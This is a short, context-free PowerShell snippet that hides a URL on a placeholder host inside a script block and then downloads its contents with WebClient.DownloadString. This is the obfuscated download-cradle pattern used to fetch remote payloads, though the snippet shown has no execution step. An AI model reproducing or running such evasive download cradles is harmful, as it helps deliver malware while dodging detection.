$s={http://a.example/p/x.txt}.ToString()
$wc = New-Object System.Net.WebClient
$wc.DownloadString($s.Trim())
